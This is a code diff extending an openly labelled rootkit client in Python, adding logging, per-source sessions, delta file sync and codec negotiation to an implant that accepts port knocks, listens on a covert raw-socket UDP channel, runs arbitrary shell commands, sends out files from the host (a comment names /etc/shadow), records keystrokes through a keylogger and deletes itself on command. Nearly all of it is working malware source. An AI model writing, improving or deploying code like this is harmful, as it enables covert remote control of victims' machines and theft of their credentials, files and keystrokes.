@@ -7,14 +7,16 @@ REQUIRES: Root/Administrator privileges for raw sockets
 Usage: sudo python3 client.py
 """
 import ctypes
+import logging
 import os
+import queue
 import socket
 import struct
 import time
 import sys
 import subprocess
 from enum import IntEnum
-from collections import deque, Counter
+from collections import deque, Counter, OrderedDict
 import threading
 
 import inotify
@@ -25,13 +27,24 @@ import select
 from evdev import InputDevice, ecodes, list_devices
 from datetime import datetime
 
-from raw_socket_protocol import RawSocketProtocol
+from covert_logging import setup_logging, throttle, parse_level
+from delta_sync import signatures, apply_delta, DeltaError
+from raw_socket_protocol import (RawSocketProtocol, ReassemblyTable, PayloadFileWriter, ReceivedFile,
+                                 TransmitScheduler, FrameError, DEFAULT_CODEC, get_codec)
 
 # Configuration
 KNOCK_SEQUENCE = [7000, 8000, 9000]  # TCP knock sequence
 KNOCK_TIMEOUT = 10  # Seconds to complete knock sequence
+MAX_KNOCK_SOURCES = 1024  # Knock progress tracked for at most this many source IPs
+MAX_CONCURRENT_SOURCES = 8  # Authorized sources whose transfers are reassembled side by side
+WORKER_IDLE_TIMEOUT = 60  # Seconds a source's command worker may sit idle before it exits
+EXPIRE_INTERVAL = 1.0  # Seconds between sweeps for stale partial transfers
 COMMAND_PORT = 8888  # UDP port for covert channel
 TMP_DIR = "client_files/"  # Directory for files transferred from commander
+DELTA_DIR = os.path.join(TMP_DIR, ".deltas/")  # Inbound deltas are staged here until applied
+CLIENT_MODULES = ["raw_socket_protocol.py", "covert_logging.py", "delta_sync.py"]  # Removed with the script on UNINSTALL
+
+log = logging.getLogger("client")
 
 
 class CommandType(IntEnum):
@@ -46,6 +59,9 @@ class CommandType(IntEnum):
     STOP_WATCH = 0x8901  # commander � client: stop the file watcher
     KEYLOG_START = 0x9012
     KEYLOG_END = 0x0123
+    FILE_SIGNATURES = 0xBCDE  # send block signatures of a file in TMP_DIR
+    TRANSFER_DELTA = 0xCDEF  # rebuild a file in TMP_DIR from its old copy plus a delta
+    READY = 0xDEF0  # client → commander: knock accepted, covert channel is listening
     ACK = 0x9ABC
     ERROR = 0xABCD
 
@@ -62,6 +78,8 @@ COMMAND_CODES = frozenset([
     0x8901,  # STOP_WATCH
     0x9012,  # KEYLOG_START
     0x0123,  # KEYLOG_END
+    0xBCDE,  # FILE_SIGNATURES
+    0xCDEF,  # TRANSFER_DELTA
 ])
 
 
@@ -75,51 +93,80 @@ class Client:
         self.command_port = COMMAND_PORT
         self.knock_sequence = knock_sequence or KNOCK_SEQUENCE
         self.knock_timeout = KNOCK_TIMEOUT
-        self.knock_attempts = {}
+        self.knock_attempts = OrderedDict()  # ip -> knock progress, oldest knock first
         self.authorized_ips = set()
+        self.session_codecs = {}  # ip -> chunk codec chosen on the final knock
+        self.session_addrs = {}  # ip -> local address it knocked on; replies are sent from it
         self.lock = threading.Lock()
         self.running = True
         self.protocol = RawSocketProtocol()
-        self._watcher_thread = None  # active FileWatcher thread
-        self._watcher_stop = threading.Event()  # set this to stop the watcher
-        self._keylogger_thread = None
-        self._keylogger_stop = threading.Event()
+        self._watchers = {}  # src ip -> (watcher thread, stop event); guarded by self.lock
+        self._keyloggers = {}  # src ip -> (keylogger thread, stop event); guarded by self.lock
+        self.transfers = ReassemblyTable(max_contexts=MAX_CONCURRENT_SOURCES,
+                                         sink_factory=self._transfer_sink)
+        self._workers = {}  # src ip -> command queue drained by that source's worker thread
+        self.transmitter = TransmitScheduler()
     # ------------------------------------------------------------------ #
     #  Port-knock helpers                                                  #
     # ------------------------------------------------------------------ #
 
-    def record_knock(self, ip_address, port):
-        """Record a knock attempt and check whether the full sequence is complete."""
+    def record_knock(self, ip_address, port, codec_id=None, local_ip=None):
+        """
+        Record a knock attempt and check whether the full sequence is complete.
+        codec_id is the chunk codec the commander asked for on the final knock and
+        local_ip the address it knocked on, which the session's replies come from.
+        Once authorized, a READY packet tells the commander it can start sending.
+        """
         current_time = time.time()
+        authorized = False
 
         with self.lock:
+            self._expire_knocks(current_time)
+
             if ip_address not in self.knock_attempts:
+                # Evict the least recently seen source once the table is full
+                while len(self.knock_attempts) >= MAX_KNOCK_SOURCES:
+                    self.knock_attempts.popitem(last=False)
                 self.knock_attempts[ip_address] = {
-                    'knocks': deque(),
+                    'knocks': deque(maxlen=len(self.knock_sequence)),
                     'last_knock': current_time
                 }
 
             knock_data = self.knock_attempts[ip_address]
+            self.knock_attempts.move_to_end(ip_address)
 
-            # Reset if the sequence timed out
-            if current_time - knock_data['last_knock'] > self.knock_timeout:
-                knock_data['knocks'].clear()
-
+            # Keeps only the last N knocks
             knock_data['knocks'].append(port)
             knock_data['last_knock'] = current_time
 
-            # Keep only the last N knocks
-            while len(knock_data['knocks']) > len(self.knock_sequence):
-                knock_data['knocks'].popleft()
-
             if list(knock_data['knocks']) == self.knock_sequence:
-                print(f"VALID KNOCK SEQUENCE from {ip_address}")
-                print(f"Authorizing for covert channel communication")
-                knock_data['knocks'].clear()
+                log.info("VALID KNOCK SEQUENCE from %s", ip_address)
+                log.info("Authorizing for covert channel communication")
+                del self.knock_attempts[ip_address]
                 self.authorized_ips.add(ip_address)
-                return True
-
-        return False
+                codec = DEFAULT_CODEC if codec_id is None else get_codec(codec_id)
+                if codec is None:
+                    log.warning("Unknown codec id %s, using '%s'", codec_id, DEFAULT_CODEC.name)
+                    codec = DEFAULT_CODEC
+                self.session_codecs[ip_address] = codec
+                if local_ip:
+                    self.session_addrs[ip_address] = local_ip
+                log.info("Session codec: %s (%s bytes/packet)", codec.name, codec.capacity)
+                authorized = True
+
+        if authorized:
+            # Sent outside the lock; uses the session codec and address just recorded
+            self.send_response(ip_address, CommandType.READY, b'')
+        return authorized
+
+    def _expire_knocks(self, current_time):
+        """Forget knock progress older than the knock timeout. Caller holds self.lock."""
+        # Entries are kept in last-knock order, so expired ones sit at the front
+        while self.knock_attempts:
+            ip_address, knock_data = next(iter(self.knock_attempts.items()))
+            if current_time - knock_data['last_knock'] <= self.knock_timeout:
+                break
+            del self.knock_attempts[ip_address]
 
     def is_authorized(self, ip_address):
         with self.lock:
@@ -129,7 +176,32 @@ class Client:
         with self.lock:
             if ip_address in self.authorized_ips:
                 self.authorized_ips.remove(ip_address)
-                print(f"Revoked authorization for {ip_address}")
+                self.session_codecs.pop(ip_address, None)
+                self.session_addrs.pop(ip_address, None)
+                log.info("Revoked authorization for %s", ip_address)
+
+    def codec_for(self, ip_address):
+        """Chunk codec negotiated with ip_address, or the default codec."""
+        with self.lock:
+            return self.session_codecs.get(ip_address, DEFAULT_CODEC)
+
+    def reply_address(self, ip_address):
+        """
+        Source address for packets to ip_address: the address it knocked on, since
+        the commander only accepts replies from the host it targeted.
+        """
+        with self.lock:
+            local_ip = self.session_addrs.get(ip_address)
+        return local_ip or self.get_local_ip()
+
+    def _read_codec_id(self, conn):
+        """The final knock may carry one byte selecting the session's chunk codec."""
+        try:
+            conn.settimeout(0.5)
+            data = conn.recv(1)
+            return data[0] if data else None
+        except (socket.timeout, OSError):
+            return None
 
     def listen_for_knocks(self, port):
         """Thread target: listen for TCP knocks on a single port."""
@@ -140,208 +212,271 @@ class Client:
         try:
             sock.bind(('0.0.0.0', port))
             sock.listen(5)
-            print(f"Knock listener on TCP port {port}")
+            log.info("Knock listener on TCP port %s", port)
 
             while self.running:
                 try:
                     conn, addr = sock.accept()
                     ip_address = addr[0]
-                    print(f"Knock on port {port} from {ip_address}")
-                    self.record_knock(ip_address, port)
-                    conn.close()
+                    log.info("Knock on port %s from %s", port, ip_address)
+                    codec_id = None
+                    if port == self.knock_sequence[-1]:
+                        codec_id = self._read_codec_id(conn)
+                    self.record_knock(ip_address, port, codec_id, conn.getsockname()[0])
+                    conn.close()  # the close acknowledges the knock to the commander
                 except socket.timeout:
                     continue
                 except Exception as e:
                     if self.running:
-                        print(f"Error on knock port {port}: {e}")
+                        log.error("Error on knock port %s: %s", port, e)
         except Exception as e:
-            print(f"Failed to bind to port {port}: {e}")
+            log.error("Failed to bind to port %s: %s", port, e)
         finally:
             sock.close()
 
 
-    def _reset_transfer_state(self):
-        """Return a clean slate for a new inbound transfer."""
-        return {
-            'chunks': {},
-            'expected_total': None,
-            'current_command': None,
-            'current_src_ip': None,
-        }
+    def _transfer_sink(self, src_ip, command, payload_len):
+        """
+        Stream TRANSFER_TO_CLIENT payloads straight into TMP_DIR and TRANSFER_DELTA
+        payloads into DELTA_DIR; keep everything else in memory.
+        """
+        if command == CommandType.TRANSFER_TO_CLIENT:
+            return PayloadFileWriter(os.path.join(os.getcwd(), TMP_DIR), payload_len)
+        if command == CommandType.TRANSFER_DELTA:
+            return PayloadFileWriter(os.path.join(os.getcwd(), DELTA_DIR), payload_len)
+        return None
 
     def listen_for_covert_commands(self):
         """Listen for covert channel commands via raw UDP socket."""
         try:
             sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            sock.settimeout(EXPIRE_INTERVAL)  # wake periodically to expire stale transfers
 
-            print(f"Covert channel listener on UDP port {self.command_port}")
-            print("Waiting for covert packets...")
-            print()
-
-            state = self._reset_transfer_state()
+            log.info("Covert channel listener on UDP port %s", self.command_port)
+            log.info("Waiting for covert packets...")
 
+            last_sweep = time.monotonic()
             while self.running:
                 try:
-                    packet, addr = sock.recvfrom(65535)
-                    parsed = self.protocol.parse_udp_packet(packet)
+                    # Swept on a clock, not only on timeout: steady junk traffic keeps
+                    # recvfrom from ever timing out
+                    now = time.monotonic()
+                    if now - last_sweep >= EXPIRE_INTERVAL:
+                        last_sweep = now
+                        for ctx in self.transfers.expire():
+                            log.warning("Transfer from %s timed out at %d/%d dropping",
+                                        ctx.src_ip, ctx.received(), ctx.total)
+
+                    try:
+                        packet, addr = sock.recvfrom(65535)
+                    except socket.timeout:
+                        continue
+
+                    src_ip = addr[0]
+                    parsed = self.protocol.parse_udp_packet(packet, self.codec_for(src_ip))
                     if not parsed:
                         continue
 
                     if parsed["dst_port"] != self.command_port:
                         continue
 
-                    src_ip = addr[0]
-
                     # Ignore our own outbound response packets
                     if parsed["command"] not in COMMAND_CODES:
                         continue
 
                     if not self.is_authorized(src_ip):
-                        print(f"Unauthorized covert packet from {src_ip}  ignoring")
+                        log.warning("Unauthorized covert packet from %s ignoring", src_ip,
+                                    extra=throttle("unauthorized",
+                                                   "dropped {count:,} unauthorized packets in last {interval:g} s"))
                         continue
 
-                    seq = parsed["seq"]
-                    data = parsed["data"]
-                    total = parsed["total"]
-                    command_code = parsed["command"]
-
-                    if state['current_src_ip'] is not None and src_ip != state['current_src_ip']:
-                        print(f"Source IP changed mid-transfer "
-                              f"({state['current_src_ip']} {src_ip}) resetting state")
-                        state = self._reset_transfer_state()
-
-                    if state['expected_total'] is None:
-                        state['expected_total'] = total
-                        state['current_command'] = command_code
-                        state['current_src_ip'] = src_ip
-                        state['chunks'] = {}
-                        # print(f"\nReceiving covert command from {src_ip}")
-                        # print(f"    Expected packets: {total}")
-
-                    # print(f"[DEBUG] seq={seq}/{state['expected_total']} "
-                    #       f"cmd=0x{command_code:04X}")
+                    # Each source has its own reassembly context
+                    try:
+                        ctx = self.transfers.feed(src_ip, parsed)
+                    except FrameError as e:
+                        # Rejected on the spot; the rest of this transfer is ignored
+                        log.warning("Rejected transfer from %s: %s", src_ip, e,
+                                    extra=throttle(f"rejected {src_ip}",
+                                                   f"rejected {{count:,}} more transfers from {src_ip} "
+                                                   f"in last {{interval:g}} s"))
+                        continue
+                    if ctx is None:
+                        continue
 
-                    state['chunks'][seq] = data
+                    # print(f"[DEBUG] seq={parsed['seq']}/{ctx.total} "
+                    #       f"cmd=0x{ctx.command:04X}")
 
                     # Progress for large transfers
-                    received = len(state['chunks'])
+                    received = ctx.received()
                     if received % 50 == 0 and received > 0:
-                        print(f"    Received {received}/{state['expected_total']}")
-                    if state['expected_total'] and received >= state['expected_total']:
-
-                        # Check for sequence gaps before reassembling
-                        expected_seqs = set(range(1, state['expected_total'] + 1))
-                        received_seqs = set(state['chunks'].keys())
-                        if expected_seqs != received_seqs:
-                            missing = expected_seqs - received_seqs
-                            print(f"Missing sequences {missing}  dropping command")
-                            state = self._reset_transfer_state()
-                            continue
+                        log.debug("    Received %d/%d", received, ctx.total,
+                                  extra=throttle(f"progress {src_ip}",
+                                                 "    ({count:,} more progress updates in last {interval:g} s)"))
 
-                        # Reassemble payload
-                        raw = b''.join(
-                            state['chunks'][i] for i in sorted(state['chunks'])
-                        )
-                        # Trim the single padding byte added for odd-length data
-                        if (state['expected_total'] * 2) > len(raw):
-                            payload = raw[:-1]
-                        else:
-                            payload = raw
+                    if ctx.is_complete():
+                        # Remove BEFORE processing so re-entrant packets aren't confused
+                        self.transfers.pop(ctx.src_ip)
 
                         try:
-                            command_type = CommandType(state['current_command'])
+                            command_type = CommandType(ctx.command)
                         except ValueError:
-                            print(f"Unknown command code: 0x{state['current_command']:04X}")
-                            state = self._reset_transfer_state()
+                            log.error("Unknown command code: 0x%04X", ctx.command)
+                            ctx.discard()
                             continue
 
-                        print(f"\nCovert command received from {state['current_src_ip']}")
-                        print(f"    Command: {command_type.name}")
-                        print(f"    Payload size: {len(payload)} bytes")
-
-                        src = state['current_src_ip']
-
-                        # Reset BEFORE processing so re-entrant packets aren't confused
-                        state = self._reset_transfer_state()
+                        # Reassemble payload (file transfers are already on disk)
+                        try:
+                            payload = ctx.finish()
+                        except Exception as e:
+                            log.error("Could not complete %s from %s: %s", command_type.name, ctx.src_ip, e)
+                            continue
 
-                        self.process_command(command_type, payload, src)
+                        size = payload.size if isinstance(payload, ReceivedFile) else len(payload)
+                        log.info("Covert command received from %s", ctx.src_ip)
+                        log.info("    Command: %s", command_type.name)
+                        log.info("    Payload size: %s bytes", size)
 
-                        if command_type == CommandType.DISCONNECT:
-                            self.revoke_authorization(src)
-                            self.running = False
-                            print("Shutting down client...")
+                        # Hand off so a slow command never stalls the receive loop or other sources
+                        self._dispatch(command_type, payload, ctx.src_ip, ctx.request_id)
 
                 except KeyboardInterrupt:
                     break
                 except Exception as e:
-                    print(f"Error receiving covert packet: {e}")
+                    log.error("Error receiving covert packet: %s", e,
+                              extra=throttle("recv error", "{count:,} more receive errors in last {interval:g} s"))
                     continue
 
             sock.close()
 
         except PermissionError:
-            print("Raw sockets require root privileges")
-            print("Run with: sudo python3 client.py")
+            log.error("Raw sockets require root privileges")
+            log.error("Run with: sudo python3 client.py")
             sys.exit(1)
         except Exception as e:
-            print(f"Fatal error: {e}")
+            log.error("Fatal error: %s", e)
             sys.exit(1)
 
-    def process_command(self, command_type, payload, src_ip):
-        """Dispatch and handle a fully-reassembled command."""
+    def _dispatch(self, command_type, payload, src_ip, request_id=0):
+        """Queue a command for src_ip's worker; commands from one source run in arrival order."""
+        with self.lock:
+            commands = self._workers.get(src_ip)
+            if commands is None:
+                commands = queue.Queue()
+                self._workers[src_ip] = commands
+                threading.Thread(target=self._source_worker, args=(src_ip, commands), daemon=True).start()
+            # Queued under the lock so a worker on its way out cannot miss it
+            commands.put((command_type, payload, request_id))
+
+    def _source_worker(self, src_ip, commands):
+        """
+        Thread target: run commands from one source, independently of other sources.
+        Exits once the source disconnects or goes idle, removing itself from _workers.
+        """
+        idle_since = time.time()
+        while self.running:
+            try:
+                command_type, payload, request_id = commands.get(timeout=1.0)
+            except queue.Empty:
+                if time.time() - idle_since >= WORKER_IDLE_TIMEOUT and self._retire_worker(src_ip, commands):
+                    return
+                continue
+
+            try:
+                self.process_command(command_type, payload, src_ip, request_id)
+            except Exception as e:
+                log.error("Error processing %s from %s: %s", command_type.name, src_ip, e)
+            idle_since = time.time()
+
+            if command_type == CommandType.DISCONNECT:
+                # Only this source's session ends; other sources carry on
+                self.revoke_authorization(src_ip)
+                self._stop_file_watcher(src_ip)
+                self._stop_keylogger(src_ip)
+                if self._retire_worker(src_ip, commands):
+                    return
+        with self.lock:
+            self._workers.pop(src_ip, None)
+
+    def _retire_worker(self, src_ip, commands):
+        """Remove src_ip's worker from _workers unless more commands were queued for it."""
+        with self.lock:
+            if not commands.empty():
+                return False
+            self._workers.pop(src_ip, None)
+            return True
+
+    def process_command(self, command_type, payload, src_ip, request_id=0):
+        """Dispatch and handle a fully-reassembled command; replies carry its request_id."""
 
         if command_type == CommandType.DISCONNECT:
-            print("Processing DISCONNECT")
-            print(f"    Closing session with {src_ip}")
+            log.info("Processing DISCONNECT")
+            log.info("    Closing session with %s", src_ip)
             # Authorization is revoked by the caller after this returns
 
         elif command_type == CommandType.UNINSTALL:
-            print("Processing UNINSTALL")
-            print("    Sending ACK then uninstalling...")
+            log.info("Processing UNINSTALL")
+            log.info("    Sending ACK then uninstalling...")
             # Send ACK BEFORE deleting the script so the response goes out
             self.send_response(src_ip, CommandType.ACK,
-                               b"Rootkit uninstalled from client")
+                               b"Rootkit uninstalled from client", request_id=request_id)
             time.sleep(0.5)  # allow send_response to complete
-            try:
-                os.remove(sys.argv[0])
-                os.remove("raw_socket_protocol.py")
-                print("    Script removed.")
-            except Exception as e:
-                print(f"    Could not remove script: {e}")
+            script_dir = os.path.dirname(os.path.abspath(sys.argv[0]))
+            for path in [sys.argv[0]] + [os.path.join(script_dir, m) for m in CLIENT_MODULES]:
+                try:
+                    os.remove(path)
+                except Exception as e:
+                    log.error("    Could not remove %s: %s", path, e)
+            log.info("    Script removed.")
 
         elif command_type == CommandType.TRANSFER_TO_CLIENT:
-            print("Processing TRANSFER_TO_CLIENT")
+            # Payload is a ReceivedFile: the data was written to TMP_DIR during reassembly
+            log.info("Processing TRANSFER_TO_CLIENT")
+            log.info("    Received file: %s (%s bytes)", os.path.basename(payload.path), payload.size)
+            log.info("    File saved to: %s", payload.path)
+
+        elif command_type == CommandType.FILE_SIGNATURES:
+            filename = os.path.basename(payload.decode('utf-8', errors='ignore').replace('\x00', '').strip())
+            log.info("Processing FILE_SIGNATURES: %s", filename)
             try:
-                filename_length = struct.unpack('!H', payload[:2])[0]
-                filename = payload[2:2 + filename_length].decode('utf-8')
-                filedata = payload[2 + filename_length:]
-
-                print(f"    Receiving file: {filename} ({len(filedata)} bytes)")
-
-                filepath = os.path.join(os.getcwd(), TMP_DIR, filename)
-                with open(filepath, 'wb') as f:
-                    f.write(filedata)
-                print(f"    File saved to: {filepath}")
-
+                sig = signatures(os.path.join(os.getcwd(), TMP_DIR, filename))
+                log.info("    Sending %s bytes of signatures", len(sig))
+                self.send_response(src_ip, CommandType.ACK, sig, request_id=request_id)
             except Exception as e:
-                print(f"    Error saving file: {e}")
+                log.error("    Error: %s", e)
+                self.send_response(src_ip, CommandType.ERROR, str(e).encode(), request_id=request_id)
+
+        elif command_type == CommandType.TRANSFER_DELTA:
+            # Payload: filename_length (2 bytes) | filename | delta, already streamed into DELTA_DIR
+            log.info("Processing TRANSFER_DELTA")
+            filename = os.path.basename(payload.path)
+            try:
+                path = os.path.join(os.getcwd(), TMP_DIR, filename)
+                size = apply_delta(path, payload.path, path)
+                log.info("    Rebuilt %s (%s bytes) from a %s byte delta", filename, size, payload.size)
+                self.send_response(src_ip, CommandType.ACK, f"Synced {filename} ({size} bytes)".encode(),
+                                   request_id=request_id)
+            except (DeltaError, OSError) as e:
+                log.error("    Error: %s", e)
+                self.send_response(src_ip, CommandType.ERROR, str(e).encode(), request_id=request_id)
+            finally:
+                os.remove(payload.path)
 
         elif command_type == CommandType.TRANSFER_FROM_CLIENT:
             filepath = payload.decode('utf-8', errors='ignore').replace('\x00', '').strip()
-            print(f"Processing TRANSFER_FROM_CLIENT: {filepath}")
+            log.info("Processing TRANSFER_FROM_CLIENT: %s", filepath)
             try:
                 with open(filepath, 'rb') as f:
                     content = f.read()
-                print(f"    Sending {len(content)} bytes to commander")
-                self.send_response(src_ip, CommandType.ACK, content)
+                log.info("    Sending %s bytes to commander", len(content))
+                self.send_response(src_ip, CommandType.ACK, content, request_id=request_id)
             except Exception as e:
-                print(f"    Error: {e}")
-                self.send_response(src_ip, CommandType.ERROR, str(e).encode())
+                log.error("    Error: %s", e)
+                self.send_response(src_ip, CommandType.ERROR, str(e).encode(), request_id=request_id)
 
         elif command_type == CommandType.RUN_COMMAND:
             cmd = payload.decode('utf-8', errors='ignore').replace('\x00', '').strip()
-            print(f"Processing RUN_COMMAND: {cmd}")
+            log.info("Processing RUN_COMMAND: %s", cmd)
             try:
                 result = subprocess.run(
                     cmd, shell=True,
@@ -351,19 +486,19 @@ class Client:
                 output = result.stdout or ""
                 stderr = result.stderr or ""
                 if stderr:
-                    print(f"    stderr: {stderr.strip()}")
-                print(f"    Output ({len(output)} bytes): {output.strip()}")
-                self.send_response(src_ip, CommandType.ACK, output.encode('utf-8'))
+                    log.info("    stderr: %s", stderr.strip())
+                log.info("    Output (%s bytes): %s", len(output), output.strip())
+                self.send_response(src_ip, CommandType.ACK, output.encode('utf-8'), request_id=request_id)
             except Exception as e:
-                print(f"    Error: {e}")
-                self.send_response(src_ip, CommandType.ERROR, str(e).encode())
+                log.error("    Error: %s", e)
+                self.send_response(src_ip, CommandType.ERROR, str(e).encode(), request_id=request_id)
 
         elif command_type == CommandType.FILE_WATCH:
             filepath = payload.decode('utf-8', errors='ignore').replace('\x00', '').strip()
             filepath = os.path.abspath(os.path.expanduser(filepath))
-            print(f"Processing FILE_WATCH: {filepath}")
+            log.info("Processing FILE_WATCH: %s", filepath)
             try:
-                self._stop_file_watcher()
+                self._stop_file_watcher(src_ip)
 
                 if not os.path.exists(filepath):
                     raise ValueError(f"Path does not exist: {filepath}")
@@ -391,6 +526,8 @@ class Client:
                         | inotify.constants.IN_ATTRIB
                     )
 
+                stop = threading.Event()
+
                 def run_watcher():
                     try:
                         if recursive:
@@ -400,8 +537,8 @@ class Client:
                             i.add_watch(watch_path, mask=event_mask)
 
                         for event in i.event_gen(yield_nones=True):
-                            if self._watcher_stop.is_set():
-                                print("File watcher stopped.")
+                            if stop.is_set():
+                                log.info("File watcher stopped.")
                                 break
                             if event is None:
                                 continue
@@ -432,53 +569,54 @@ class Client:
                                     # Use canonical path for atomic-rename workflows (e.g. /etc/shadow)
                                     src = os.path.join(watch_path, target_file) if target_file else full_path
                                     try:
-                                        print(f"{event_name} detected for {filename}")
+                                        log.info("%s detected for %s", event_name, filename)
                                         with open(src, 'rb') as f:
                                             filedata = f.read()
                                         send_name = target_file or filename
                                         name_bytes = send_name.encode('utf-8')
                                         pkt_payload = struct.pack('!H', len(name_bytes)) + name_bytes + filedata
                                         self.send_response(src_ip, CommandType.FILE_WATCH, pkt_payload)
-                                        print(f"Watcher: sent '{send_name}' ({len(filedata)} bytes)")
+                                        log.info("Watcher: sent '%s' (%s bytes)", send_name, len(filedata))
                                     except Exception as e:
-                                        print(f"Watcher: could not send '{filename}': {e}")
+                                        log.error("Watcher: could not send '%s': %s", filename, e)
 
                                 elif event_name == 'IN_DELETE':
                                     # Double-check target_file match inside event loop
                                     if target_file and filename != target_file:
                                         continue
-                                    print(f"{event_name} detected for {filename}")
+                                    log.info("%s detected for %s", event_name, filename)
                                     send_name = target_file or filename
                                     self.send_response(src_ip, CommandType.FILE_DELETE,
                                                        send_name.encode('utf-8'))
-                                    print(f"Watcher: notified deletion of '{send_name}'")
+                                    log.info("Watcher: notified deletion of '%s'", send_name)
 
                                 elif event_name in ('IN_DELETE_SELF', 'IN_MOVE_SELF'):
-                                    print(f"Watcher: watched path was deleted or moved, stopping.")
-                                    print(f"{event_name} detected for {filename}")
-                                    self._watcher_stop.set()
+                                    log.info("Watcher: watched path was deleted or moved, stopping.")
+                                    log.info("%s detected for %s", event_name, filename)
+                                    stop.set()
                                     break
 
                     except Exception as e:
-                        import traceback
-                        traceback.print_exc()
-                        print(f"Watcher thread error: {e!r}")
+                        log.exception("Watcher thread error: %r", e)
 
-                self._watcher_stop.clear()
-                self._watcher_thread = threading.Thread(target=run_watcher, daemon=True)
-                self._watcher_thread.start()
-                print(f"    Watcher started on {filepath}")
+                watcher = threading.Thread(target=run_watcher, daemon=True)
+                with self.lock:
+                    self._watchers[src_ip] = (watcher, stop)
+                watcher.start()
+                log.info("    Watcher started on %s", filepath)
 
             except Exception as e:
-                print(f"    Error: {e}")
-                self.send_response(src_ip, CommandType.ERROR, str(e).encode())
+                log.error("    Error: %s", e)
+                self.send_response(src_ip, CommandType.ERROR, str(e).encode(), request_id=request_id)
 
         elif command_type == CommandType.STOP_WATCH:
-            print("Processing STOP_WATCH")
-            self._stop_file_watcher()
+            log.info("Processing STOP_WATCH")
+            self._stop_file_watcher(src_ip)
 
         elif command_type == CommandType.KEYLOG_START:
-            log_file = "./keylogger.txt"
+            self._stop_keylogger(src_ip)
+            log_file = self._keylog_path(src_ip)
+            stop = threading.Event()
 
             def run_keylogger():
                 devices = [InputDevice(path) for path in list_devices()]
@@ -496,10 +634,10 @@ class Client:
                             break
 
                 if keyboard_dev is None:
-                    print("[!] Keylogger: no keyboard device found")
+                    log.error("[!] Keylogger: no keyboard device found")
                     exit()
 
-                print(f"Keylogger using device: {keyboard_dev.name} ({keyboard_dev.path})")
+                log.info("Keylogger using device: %s (%s)", keyboard_dev.name, keyboard_dev.path)
                 KEYMAP = {
                     ecodes.KEY_A: ('a', 'A'), ecodes.KEY_B: ('b', 'B'),
                     ecodes.KEY_C: ('c', 'C'), ecodes.KEY_D: ('d', 'D'),
@@ -540,7 +678,7 @@ class Client:
 
                 try:
                     with open(log_file, "a") as f:
-                        while not self._keylogger_stop.is_set():
+                        while not stop.is_set():
                             r, _, _ = select.select([keyboard_dev.fd], [], [], 0.2)
                             if not r:
                                 continue
@@ -569,61 +707,81 @@ class Client:
                                 f.write(f"{ts}  {key_str}\n")
                                 f.flush()
                 except OSError as e:
-                    print(f"[!] Keylogger error: {e}")
+                    log.error("[!] Keylogger error: %s", e)
 
-            self._keylogger_stop.clear()
-            self._keylogger_thread = threading.Thread(target=run_keylogger, daemon=True)
-            self._keylogger_thread.start()
-            print(f"    Keylogger started")
+            keylogger = threading.Thread(target=run_keylogger, daemon=True)
+            with self.lock:
+                self._keyloggers[src_ip] = (keylogger, stop)
+            keylogger.start()
+            log.info("    Keylogger started")
 
         elif command_type == CommandType.KEYLOG_END:
-            print("Processing KEYLOG_END")
-            self._stop_keylogger()
+            log.info("Processing KEYLOG_END")
+            self._stop_keylogger(src_ip)
             time.sleep(0.2)  # give keylogger thread time to flush and close the file
-            print("    Keylogger stopped.")
+            log.info("    Keylogger stopped.")
+            log_file = self._keylog_path(src_ip)
             try:
-                with open("keylogger.txt", 'rb') as f:
+                with open(log_file, 'rb') as f:
                     content = f.read()
-                print(f"    Sending {len(content)} bytes to commander")
-                self.send_response(src_ip, CommandType.ACK, content)
-                if os.path.exists("keylogger.txt"):
-                    os.remove("keylogger.txt")
+                log.info("    Sending %s bytes to commander", len(content))
+                self.send_response(src_ip, CommandType.ACK, content, request_id=request_id)
+                if os.path.exists(log_file):
+                    os.remove(log_file)
             except Exception as e:
-                print(f"    Error reading keylog: {e}")
-                self.send_response(src_ip, CommandType.ERROR, str(e).encode())
-
-
-    def _stop_file_watcher(self):
-        """Stop the active file watcher thread if running."""
-        if self._watcher_thread and self._watcher_thread.is_alive():
-            print("Stopping file watcher...")
-            self._watcher_stop.set()
-            self._watcher_thread.join(timeout=3)
-            self._watcher_thread = None
-        self._watcher_stop.clear()
-
-    def _stop_keylogger(self):
-        """Stop the active file watcher thread if running."""
-        if self._keylogger_thread and self._keylogger_thread.is_alive():
-            print("Stopping keylogger...")
-            self._keylogger_stop.set()
-            self._keylogger_thread.join(timeout=3)
-            self._keylogger_thread = None
-        self._keylogger_stop.clear()
-
-    def send_response(self, dst_ip, command_type, payload):
-        """Send a response back to the commander via the covert channel."""
+                log.error("    Error reading keylog: %s", e)
+                self.send_response(src_ip, CommandType.ERROR, str(e).encode(), request_id=request_id)
+
+
+    def _stop_file_watcher(self, src_ip):
+        """Stop src_ip's file watcher thread if running."""
+        with self.lock:
+            watcher, stop = self._watchers.pop(src_ip, (None, None))
+        if watcher and watcher.is_alive():
+            log.info("Stopping file watcher...")
+            stop.set()
+            watcher.join(timeout=3)
+
+    def _stop_keylogger(self, src_ip):
+        """Stop src_ip's keylogger thread if running."""
+        with self.lock:
+            keylogger, stop = self._keyloggers.pop(src_ip, (None, None))
+        if keylogger and keylogger.is_alive():
+            log.info("Stopping keylogger...")
+            stop.set()
+            keylogger.join(timeout=3)
+
+    @staticmethod
+    def _keylog_path(src_ip):
+        """Each source's keylogger writes its own file."""
+        return f"./keylogger_{src_ip}.txt"
+
+    def send_response(self, dst_ip, command_type, payload, request_id=0):
+        """
+        Send a response back to the commander via the covert channel.
+        request_id is that of the command being answered, 0 for unsolicited pushes.
+        Blocks until sent; responses to different commanders are interleaved fairly.
+        """
         try:
-            self.protocol.send_packet(
-                self.get_local_ip(),
+            pipeline = self.protocol.send_pipeline(
+                self.reply_address(dst_ip),
                 dst_ip,
                 self.command_port,
                 command_type,
-                payload
+                payload,
+                self.codec_for(dst_ip),
+                request_id=request_id
             )
+            # Hand the flow to the scheduler only once packets are flowing, so a
+            # payload still being compressed does not stall other flows
+            total = pipeline.wait_ready()
+            log.info("Sending %s covert packets to %s", total, dst_ip)
+            if not self.transmitter.send(dst_ip, pipeline.packets(), total):
+                log.error("Failed to send response to %s", dst_ip)
+                pipeline.close()
             # print(f"    Response sent to {dst_ip}")
         except Exception as e:
-            print(f"Failed to send response: {e}")
+            log.error("Failed to send response: %s", e)
 
     def get_local_ip(self):
         try:
@@ -636,12 +794,14 @@ class Client:
             return "127.0.0.1"
 
     def start(self):
-        print(f"Knock sequence: {self.knock_sequence}")
-        print(f"Knock timeout:  {self.knock_timeout}s")
-        print(f"Command port:   UDP {self.command_port}")
-        print()
